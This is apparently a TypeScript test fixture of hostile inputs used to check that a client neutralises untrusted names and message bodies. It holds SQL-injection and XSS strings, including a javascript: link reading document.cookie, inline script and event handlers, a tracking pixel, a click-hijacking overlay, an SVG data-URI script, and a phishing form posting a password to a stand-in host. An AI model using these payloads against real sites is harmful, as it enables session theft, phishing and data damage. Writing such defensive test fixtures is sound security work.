/**
 * What an attacker would try: a name that breaks out of queries and pages, and a message with scripts, handlers,
 * links to code and images that report who looked. A client has to make all of it harmless by itself.
 */
export const HOSTILE_NAME = [`Robert'); DROP--\\`, `<img src=x onerror=alert(1)> O'Brien & "Sons"`] as const

export const HOSTILE_BODY = [
  '<p>Please open our <a href="javascript:alert(document.cookie)">order form</a> &amp; confirm.</p>',
  '<script>window.__hostile = 1</script>',
  '<img src="https://pixel.tracker.example/open.gif?id=77" width="1" height="1" onload="window.__hostile = 2">',
  '<p onclick="window.__hostile = 3" style="position:fixed;inset:0;z-index:99999">Click anywhere</p>',
  '<iframe src="https://phish.example/login"></iframe><form action="https://phish.example/take"><input name="password"></form>',
  '<svg><a xlink:href="data:text/html,<script>1</script>"><text>chart</text></a></svg>',
  `<p>${'wwwwwwwwww'.repeat(40)}</p>`,
].join('')
